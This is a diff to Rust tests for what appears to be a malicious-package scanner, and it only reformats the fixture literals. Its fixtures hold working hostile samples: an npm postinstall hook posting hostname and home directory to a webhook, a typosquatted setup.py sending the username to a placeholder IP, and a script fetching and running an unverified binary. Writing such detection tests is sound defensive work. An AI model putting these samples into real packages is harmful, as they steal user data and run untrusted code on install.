@@ -120,14 +120,23 @@ fn round_39m_ci_secrets_do_not_fire() {
 fn round_39m_hook_script_and_wrapper_beacon_fire() {
     at(
         &[
-            ("package.json", "{\n  \"name\": \"tiny-colors\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/check.js\"\n  }\n}\n"),
-            ("scripts/check.js", "const os = require('os'), https = require('https');\nconst info = { h: os.hostname(), d: os.homedir() };\nconst r = https.request('https://discord.com/api/webhooks/111/zzz', { method: 'POST' });\nr.end(JSON.stringify(info));\n"),
+            (
+                "package.json",
+                "{\n  \"name\": \"tiny-colors\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/check.js\"\n  }\n}\n",
+            ),
+            (
+                "scripts/check.js",
+                "const os = require('os'), https = require('https');\nconst info = { h: os.hostname(), d: os.homedir() };\nconst r = https.request('https://discord.com/api/webhooks/111/zzz', { method: 'POST' });\nr.end(JSON.stringify(info));\n",
+            ),
         ],
         BEACON,
         Some(Critical),
     );
     at(
-        &[("setup.py", "import getpass, urllib.request\nfrom setuptools import setup\n\ndef send(u, body):\n    return urllib.request.urlopen(u, body)\n\nme = getpass.getuser()\nsend('http://192.0.2.140/b', me.encode())\nsetup(name='reqeusts')\n")],
+        &[(
+            "setup.py",
+            "import getpass, urllib.request\nfrom setuptools import setup\n\ndef send(u, body):\n    return urllib.request.urlopen(u, body)\n\nme = getpass.getuser()\nsend('http://192.0.2.140/b', me.encode())\nsetup(name='reqeusts')\n",
+        )],
         BEACON,
         Some(Critical),
     );
@@ -139,12 +148,24 @@ fn round_39m_hook_script_and_wrapper_beacon_fire() {
 fn round_39m_hook_script_beacon_does_not_fire() {
     for files in [
         vec![
-            ("package.json", "{\n  \"name\": \"tiny-colors\",\n  \"scripts\": {\n    \"test\": \"node scripts/check.js\"\n  }\n}\n"),
-            ("scripts/check.js", "const os = require('os'), https = require('https');\nconst info = { h: os.hostname() };\nhttps.request('https://203.0.113.9/x', { method: 'POST' }).end(JSON.stringify(info));\n"),
+            (
+                "package.json",
+                "{\n  \"name\": \"tiny-colors\",\n  \"scripts\": {\n    \"test\": \"node scripts/check.js\"\n  }\n}\n",
+            ),
+            (
+                "scripts/check.js",
+                "const os = require('os'), https = require('https');\nconst info = { h: os.hostname() };\nhttps.request('https://203.0.113.9/x', { method: 'POST' }).end(JSON.stringify(info));\n",
+            ),
         ],
         vec![
-            ("package.json", "{\n  \"name\": \"fastbin\",\n  \"scripts\": {\n    \"postinstall\": \"node install.js\"\n  }\n}\n"),
-            ("install.js", "const os = require('os'), https = require('https');\nconst url = `https://github.com/fastbin/fastbin/releases/download/v1/fastbin-${os.platform()}-${os.arch()}`;\nhttps.get(url, res => res.pipe(require('fs').createWriteStream('bin/fastbin')));\n"),
+            (
+                "package.json",
+                "{\n  \"name\": \"fastbin\",\n  \"scripts\": {\n    \"postinstall\": \"node install.js\"\n  }\n}\n",
+            ),
+            (
+                "install.js",
+                "const os = require('os'), https = require('https');\nconst url = `https://github.com/fastbin/fastbin/releases/download/v1/fastbin-${os.platform()}-${os.arch()}`;\nhttps.get(url, res => res.pipe(require('fs').createWriteStream('bin/fastbin')));\n",
+            ),
         ],
     ] {
         below_critical(&files, BEACON);
@@ -155,7 +176,10 @@ fn round_39m_hook_script_beacon_does_not_fire() {
 #[test]
 fn round_39m_unverified_download_run_fires() {
     at(
-        &[("scripts/get.sh", "#!/bin/sh\ncurl -k -o /tmp/.agentd https://203.0.113.31/agentd\nchmod +x /tmp/.agentd\n/tmp/.agentd --daemon\n")],
+        &[(
+            "scripts/get.sh",
+            "#!/bin/sh\ncurl -k -o /tmp/.agentd https://203.0.113.31/agentd\nchmod +x /tmp/.agentd\n/tmp/.agentd --daemon\n",
+        )],
         UNVERIFIED,
         Some(Critical),
     );
